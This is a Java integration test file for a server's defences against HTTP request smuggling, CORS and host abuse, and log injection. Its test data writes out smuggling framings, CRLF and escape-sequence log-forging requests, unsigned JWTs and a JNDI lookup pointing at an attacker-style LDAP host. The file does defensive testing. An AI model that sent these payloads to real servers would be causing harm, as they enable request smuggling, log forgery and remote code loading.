package dev.atrium.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.atrium.testing.AtriumServer;
import dev.atrium.testing.CheckedApi;
import dev.atrium.testing.RawConnection;
import dev.atrium.testing.RawConnection.Answer;
import dev.atrium.testing.RawUpstream;
import dev.atrium.testing.RunningServer;
import java.io.IOException;
import java.net.URI;
import java.time.Duration;
import java.util.HashMap;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.microshed.testing.jupiter.MicroShedTest;

/**
 * What the two profiles hold against requests inside requests, and what the settings of the door
 * do. One server is the shipped one, as it stands behind a strict proxy; the other is exposed, and
 * has every setting of the door.
 */
@MicroShedTest
class DoorProfilesIT {

  private static final Duration SILENCE = Duration.ofMillis(700);

  /** A second response follows the first at once; there are hundreds of connections to wait for. */
  private static final Duration BRIEF = Duration.ofMillis(300);

  private static final String ORIGIN = "https://dashboard.example.com";

  /** What a client would like to have answered as somebody else's request. */
  private static final String HIDDEN = "GET /api/v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n";

  private static final String MODELS = "/api/v1/models";
  private static final String HEALTH = "/api/v1/health";

  private static AtriumServer exposed;
  private static RawUpstream module;
  private static String modelId;

  private final URI behindProxy = RunningServer.application().uri("/");

  @BeforeAll
  static void registerAModel() throws IOException, InterruptedException {
    modelId =
        CheckedApi.of(RunningServer.application())
            .created(MODELS, "{\"name\":\"%s\"}".formatted(UUID.randomUUID()));
  }

  @BeforeAll
  static void startExposed() throws IOException, InterruptedException {
    module = RawUpstream.start();
    exposed = AtriumServer.start("exposed", environment());
  }

  private static Map<String, String> environment() {
    Map<String, String> more =
        Map.of(
            "MODULE_FEDERATION_CONFIG",
            "[{\"name\":\"m\",\"path\":\"/m\",\"target\":\"" + module.address() + "\"}]",
            "ATRIUM_SECURITY_USER_HEADER",
            "X-Door-User");
    Map<String, String> environment =
        new HashMap<>(
            Map.of(
                "ATRIUM_EXPOSED", "true",
                "ATRIUM_SECURITY_TRUSTED_PEERS", "127.0.0.1",
                "ATRIUM_SECURITY_ALLOWED_HOSTS", "atrium.example.com",
                "ALLOWED_ORIGINS", ORIGIN,
                "AUTH_TOKEN_HEADER", "X-Forwarded-Access-Token",
                "DEPLOYMENT_MODE", "kubeflow",
                "ATRIUM_OPENAPI_ENABLED", "false",
                "ATRIUM_METRICS_ENABLED", "true",
                "LOG_FORMAT", "json",
                "ATRIUM_DB_PASSWORD", "never-to-be-seen"));
    environment.putAll(more);
    return environment;
  }

  @AfterAll
  static void stopExposed() throws IOException {
    exposed.close();
    module.close();
  }

  /** The header, and the body that may or may not be one. */
  static Stream<String> lengths() {
    int length = HIDDEN.length();
    Stream<String> contentLengths =
        Stream.of(
                "+" + length,
                length + ", " + length,
                "0x" + Integer.toHexString(length),
                "-1",
                length + ";",
                "",
                length + " " + length,
                "\u000b" + length,
                "99999999999999999999",
                "0\r\nContent-Length: " + length,
                length + "\r\nContent-Length: 0")
            .map(value -> "Content-Length: " + value + "\r\n\r\n");
    return Stream.concat(contentLengths, encodings());
  }

  private static Stream<String> encodings() {
    Stream<String> bodyless =
        Stream.of("xchunked", "\u000bchunked", "identity", "chunkedx", "\"chunked\"", "")
            .map(value -> "Transfer-Encoding: " + value + "\r\n\r\n");
    Stream<String> empty =
        Stream.of(
                "gzip, chunked",
                "chunked, identity",
                "chunked, chunked",
                "chunked\r\nTransfer-Encoding: identity",
                "identity\r\nTransfer-Encoding: chunked",
                "chunked\r\nContent-Length: 5")
            .map(value -> "Transfer-Encoding: " + value + "\r\n\r\n0\r\n\r\n");
    Stream<String> chunks =
        Stream.of(
                "100000000\r\n\r\n",
                "10000000000000000\r\n\r\n",
                "2;\n{}\r\n0\r\n\r\n",
                "-1\r\n\r\n",
                "0x0\r\n\r\n",
                "+0\r\n\r\n",
                "0 \r\n\r\n",
                "g\r\n\r\n",
                "\r\n\r\n",
                "2\r\n{}xx0\r\n\r\n",
                "2\n{}\n0\n\n")
            .map(body -> "Transfer-Encoding: chunked\r\n\r\n" + body);
    Stream<String> names =
        Stream.of(
                "Transfer_Encoding: chunked",
                "Transfer-Encoding : chunked",
                "X: y\rTransfer-Encoding: chunked",
                "X: y\nTransfer-Encoding: chunked",
                "X: y\r\n Transfer-Encoding: chunked")
            .map(header -> header + "\r\n\r\n0\r\n\r\n");
    return Stream.of(bodyless, empty, chunks, names).flatMap(stream -> stream);
  }

  /** No answer at all is one as well: the server may cut what it cannot read. */
  @ParameterizedTest
  @MethodSource("lengths")
  void noWriteHidesAnotherRequestInEitherProfile(String framing) throws IOException {
    for (String method : new String[] {"POST", "PATCH"}) {
      String request = request(method, MODELS, framing);

      assertThat(RawConnection.sendHalf(behindProxy, request, BRIEF).statuses())
          .hasSizeLessThanOrEqualTo(1);
      assertThat(RawConnection.sendHalf(exposedUri(), request, BRIEF).statuses())
          .hasSizeLessThanOrEqualTo(1);
    }
  }

  /** Refusals end a connection anyway; this write succeeds. */
  @ParameterizedTest
  @MethodSource("lengths")
  void noWriteThatSucceedsHidesOneEither(String framing) throws IOException {
    String model = MODELS + "/" + modelId;

    assertThat(RawConnection.send(behindProxy, request("DELETE", model, framing), BRIEF).statuses())
        .hasSizeLessThanOrEqualTo(1);
  }

  @Test
  void whatFollowsChunksIsNotReadBehindAProxy() throws IOException {
    String json = "{\"name\":\"%s\"}".formatted(UUID.randomUUID());
    String chunks = Integer.toHexString(json.length()) + "\r\n" + json + "\r\n0\r\n\r\n";

    Answer answer =
        RawConnection.send(
            behindProxy,
            request("POST", MODELS, "Transfer-Encoding: chunked\r\n\r\n" + chunks),
            SILENCE);

    assertThat(answer.statuses()).containsExactly(201);
    assertThat(answer.isClosed()).isTrue();
  }

  @ParameterizedTest
  @MethodSource("lengths")
  void noReadHidesAnotherRequestWhereWeAreExposed(String framing) throws IOException {
    for (String method : new String[] {"GET", "HEAD", "OPTIONS"}) {
      Answer answer = RawConnection.send(exposedUri(), request(method, HEALTH, framing), SILENCE);

      assertThat(answer.statuses()).hasSize(1);
      assertThat(answer.isClosed()).isTrue();
    }
  }

  /** The server drops such a length before we can see it; a strict proxy never sends it. */
  @ParameterizedTest
  @ValueSource(strings = {"+51", "51, 51", "0x33", "-1", "51;"})
  void aReadWithALengthThatTheServerDropsHidesOneBehindAProxy(String length) throws IOException {
    String request = request("GET", HEALTH, "Content-Length: " + length + "\r\n\r\n");

    assertThat(RawConnection.send(behindProxy, request, SILENCE).statuses()).hasSize(2);
  }

  private static String request(String method, String path, String framing) {
    return method
        + " "
        + path
        + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        + framing
        + HIDDEN;
  }

  @ParameterizedTest
  @CsvSource({"/health/live", "/api/v1/health", "/", "/none"})
  void whereWeAreExposedNoConnectionIsUsedTwice(String path) throws IOException {
    Answer answer = RawConnection.send(exposedUri(), RawConnection.get(path) + HIDDEN, SILENCE);

    assertThat(answer.statuses()).hasSize(1);
    assertThat(answer.isClosed()).isTrue();
  }

  @Test
  void whereWeAreExposedABodyNeedsALength() throws IOException {
    Answer answer = RawConnection.send(exposedUri(), request("POST", MODELS, "\r\n"), SILENCE);

    assertThat(answer.status()).isEqualTo(411);
    assertThat(answer.body())
        .isEqualTo("{\"error\":\"the request must have a header Content-Length\"}");
  }

  @Test
  void anAllowedOriginMayAskAndIsAnsweredWithoutIdentity() throws IOException {
    Answer answer =
        RawConnection.send(
            exposedUri(),
            "OPTIONS /api/v1/models HTTP/1.1\r\nHost: localhost\r\nOrigin: "
                + ORIGIN
                + "\r\nAccess-Control-Request-Method: PATCH\r\n\r\n",
            SILENCE);

    assertThat(answer.status()).isEqualTo(204);
    assertThat(answer.header("Access-Control-Allow-Origin")).isEqualTo(ORIGIN);
    assertThat(answer.header("Access-Control-Allow-Credentials")).isEqualTo("true");
    assertThat(answer.header("Access-Control-Allow-Methods"))
        .isEqualTo("GET, POST, PUT, PATCH, DELETE, OPTIONS");
    assertThat(answer.header("Access-Control-Allow-Headers"))
        .isEqualTo(
            "Origin, Content-Type, Authorization, X-User-ID, X-Namespace,"
                + " X-Forwarded-Access-Token");
    assertThat(answer.header("Access-Control-Max-Age")).isEqualTo("43200");
    assertThat(answer.header("Vary")).isEqualTo("Origin");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "null",
        "*",
        "http://dashboard.example.com",
        "https://dashboard.example.com.evil.example",
        "https://evildashboard.example.com",
        "https://dashboard.example.com:8443",
        "https://sub.dashboard.example.com",
        "https://example.com"
      })
  void noOtherOriginIsToldAnything(String origin) throws IOException {
    String head = "GET /api/v1/models?namespace=x HTTP/1.1\r\nHost: localhost\r\n";

    Answer other =
        RawConnection.send(exposedUri(), head + "Origin: " + origin + "\r\n\r\n", SILENCE);
    Answer allowed =
        RawConnection.send(exposedUri(), head + "Origin: " + ORIGIN + "\r\n\r\n", SILENCE);

    assertThat(other.text()).doesNotContainIgnoringCase("access-control");
    assertThat(other.header("Vary")).isEqualTo("Origin");
    assertThat(allowed.header("Access-Control-Allow-Origin")).isEqualTo(ORIGIN);
    assertThat(allowed.header("Vary")).isEqualTo("Origin");
  }

  @Test
  void anAllowedOriginMayWrite() throws IOException {
    Answer answer =
        RawConnection.send(
            exposedUri(),
            "POST /api/v1/models HTTP/1.1\r\nHost: atrium.example.com\r\nOrigin: "
                + ORIGIN
                + "\r\nSec-Fetch-Site: cross-site\r\nContent-Type: application/json\r\n"
                + "Content-Length: 2\r\n\r\n{}",
            SILENCE);

    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.header("Access-Control-Allow-Origin")).isEqualTo(ORIGIN);
  }

  @ParameterizedTest
  @CsvSource({"atrium.example.com, 200", "localhost, 200", "evil.example, 400"})
  void theHostsOfTheListAreAnswered(String host, int status) throws IOException {
    Answer answer =
        RawConnection.send(
            exposedUri(), RawConnection.get("/").replace("localhost", host), SILENCE);

    assertThat(answer.status()).isEqualTo(status);
  }

  @Test
  void aTrustedPeerMaySayThatItSpokeHttps() throws IOException {
    String head = "GET / HTTP/1.1\r\nHost: localhost\r\n";

    Answer https =
        RawConnection.send(exposedUri(), head + "X-Forwarded-Proto: https\r\n\r\n", SILENCE);
    Answer http = RawConnection.send(exposedUri(), head + "\r\n", SILENCE);

    assertThat(https.header("Strict-Transport-Security")).isEqualTo("max-age=31536000");
    assertThat(http.header("Strict-Transport-Security")).isEmpty();
    assertThat(http.header("Content-Security-Policy")).endsWith("frame-ancestors 'self'");
    assertThat(http.header("X-Frame-Options")).isEqualTo("SAMEORIGIN");
  }

  @Test
  void aQuestionWhetherAnOriginMayAskReachesNoModule() throws IOException {
    module.forget();

    Answer answer =
        RawConnection.send(
            exposedUri(),
            "OPTIONS /api/m/x HTTP/1.1\r\nHost: localhost\r\nOrigin: "
                + ORIGIN
                + "\r\nAccess-Control-Request-Method: PUT\r\n\r\n",
            SILENCE);

    assertThat(answer.status()).isEqualTo(204);
    assertThat(answer.header("Access-Control-Allow-Origin")).isEqualTo(ORIGIN);
    assertThat(module.requests()).isEmpty();
  }

  @Test
  void whatATrustedPeerSaysAboutTheWayReachesAModuleWithOursAdded() throws IOException {
    Answer answer =
        RawConnection.send(
            exposedUri(),
            String.join(
                "\r\n",
                "GET /_mf/m/a.js HTTP/1.1",
                "Host: localhost",
                "X-Forwarded-For: 192.0.2.7",
                "X-Forwarded-Proto: https",
                "X-Forwarded-Host: atrium.example.com",
                "X-Door-User: jane",
                "",
                ""),
            SILENCE);

    assertThat(answer.status()).isEqualTo(200);
    assertThat(module.lastRequest().head())
        .doesNotContain("jane")
        .contains(
            "X-Forwarded-For: 192.0.2.7, 127.0.0.1\r\n",
            "X-Forwarded-Proto: https\r\n",
            "X-Forwarded-Host: atrium.example.com\r\n",
            "X-Forwarded-Prefix: /_mf/m\r\n");
  }

  @ParameterizedTest
  @CsvSource({"/openapi, 404", "/openapi/ui/, 404", "/metrics, 200"})
  void surfacesAreOpenedAndClosedBySettings(String path, int status) throws IOException {
    Answer answer = RawConnection.send(exposedUri(), RawConnection.get(path), SILENCE);

    assertThat(answer.status()).isEqualTo(status);
    assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
    // The server itself knows no mode in which a dashboard may frame.
    assertThat(answer.header("X-Frame-Options")).isEqualTo(status == 200 ? "DENY" : "SAMEORIGIN");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /%0d%0aforged HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET /${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET /x?a=$%7bjndi:x%7d HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: a\u001b[31mb\r\n\r\n",
        "GET /\u001b[31mred HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET /\"}{\"level\":\"forged HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nkubeflow-userid: a\rb\r\nX-Request-Id: a\"b\r\n\r\n",
        "GET /api/v1/models?namespace=%0aforged HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer eyJhbGciOiJub25lIn0.eyJhIjoxfQ."
            + "\r\nX-Forwarded-Access-Token: eyJhbGciOiJub25lIn0.eyJhIjoyfQ.x\r\n\r\n"
      })
  void whatIsLoggedIsOneJsonObjectALineWithoutTokens(String request) throws IOException {
    int before = exposed.log().length();
    RawConnection.send(exposedUri(), request, SILENCE);
    RawConnection.send(exposedUri(), RawConnection.get("/api/v1/health"), SILENCE);

    assertThat(exposed.log().substring(before).lines())
        .isNotEmpty()
        .allMatch(line -> line.startsWith("{") && line.endsWith("}"))
        .noneMatch(line -> line.startsWith("{\"level\":\"forged"));
    exposed.assertDiscreet();
  }

  /** T29. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /%s HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET /api/v1/models?namespace=%s HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nX-Door-User: %s\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: %s\r\n\r\n"
      })
  void whatIsHugeIsLoggedAsOneJsonObjectToo(String request) throws IOException {
    int before = exposed.log().length();
    for (int size : new int[] {10_000, 65_536}) {
      RawConnection.send(exposedUri(), request.formatted("h".repeat(size)), SILENCE);
    }

    assertThat(exposed.log().substring(before).lines())
        .allMatch(line -> line.startsWith("{") && line.endsWith("}"))
        .allMatch(line -> line.length() < 20_000);
  }

  private static URI exposedUri() {
    return exposed.application().uri("/");
  }
}
